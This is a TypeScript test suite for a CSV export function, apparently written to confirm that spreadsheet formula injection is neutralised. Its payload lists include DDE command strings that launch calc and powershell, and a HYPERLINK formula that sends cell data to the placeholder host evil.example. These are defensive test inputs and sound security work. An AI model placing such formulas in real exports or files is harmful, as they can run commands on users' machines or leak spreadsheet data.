import { describe, expect, it } from 'vitest';
import { safeField, writeCsv } from '../../src/reports/csv.js';

/** What spreadsheets and those who attack them begin a cell with; see OWASP, “CSV Injection”. */
const STARTS = ['=', '+', '-', '@', '|', '%', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
const BEFORE = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '"',
  "'",
  '""',
  '\u00A0',
  '\u200B',
  '\uFEFF',
  '\u202E',
  '\0',
  '\u001B',
];
const REST = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  'SUM(A1:A9)*cmd|"/C powershell"!A0',
];
const INNER = [',=1+1', ';=1+1', '","=1+1', '";"@SUM(A1)', '\n=1+1', '\r=1+1', '\t=1+1', '|-1+cmd', 'a,"\uFF1D1'];

const PAYLOADS = [
  ...STARTS.flatMap((start) => BEFORE.flatMap((before) => REST.map((rest) => before + start + rest))),
  ...INNER.map((inner) => `Ada${inner}`),
];

/** RFC 4180, read as it is written there: quotes, doubled quotes, CRLF. */
function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') field += text[at] ?? '';
        else if (text[at + 1] === '"') {
          field += '"';
          at += 1;
        } else break;
      }
      at += 1;
    }
    // What stands behind a closing quote belongs to the field, as lenient readers have it.
    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n')
      field += text[at++] ?? '';
    row.push(field);
    if (text[at] === separator) {
      at += 1;
      continue;
    }
    rows.push(row);
    row = [];
    at += text[at] === '\r' && text[at + 1] === '\n' ? 2 : 1;
  }
  return rows;
}

/** As a spreadsheet decides: what it passes over at the beginning does not save a formula. */
const isFormula = (field: string): boolean => /^[\s\p{C}"]*[=+\-@|%\uFF1D\uFF0B\uFF0D\uFF20]/u.test(field);

describe('a table', () => {
  it('is more than 400 hostile names, each of them still one field of one line and none a formula', () => {
    expect(PAYLOADS.length).toBeGreaterThan(400);
    const csv = writeCsv([['name', 'role'], ...PAYLOADS.map((name) => [name, 'student'])]);
    expect(csv.startsWith('\uFEFF"name","role"\r\n')).toBe(true);
    const rows = readCsv(csv.slice(1));
    expect(rows).toHaveLength(PAYLOADS.length + 1);
    for (const row of rows.slice(1)) {
      expect(row).toHaveLength(2);
      expect(row[1]).toBe('student');
      expect(isFormula(row[0] ?? '')).toBe(false);
      expect(row[0]).not.toMatch(/[\u0000-\u001F\u007F]/u);
    }
  });

  it('has no formula for a spreadsheet that separates by something else, either', () => {
    const csv = writeCsv(PAYLOADS.map((name) => [name, name])).slice(1);
    for (const separator of [';', '\t', '|'])
      for (const row of readCsv(csv, separator)) for (const field of row) expect(isFormula(field)).toBe(false);
  });

  it('leaves what is no formula as it is', () => {
    for (const text of ['Ada Lovelace', "O'Brien", 'Renée (she/her)', '王小明', 'a-b', '3 - 2', 'x=1', 'أحمد', ''])
      expect(safeField(text)).toBe(text);
    expect(readCsv(writeCsv([['He said "hi", twice', 'b']]).slice(1))).toEqual([['He said "hi", twice', 'b']]);
  });
});
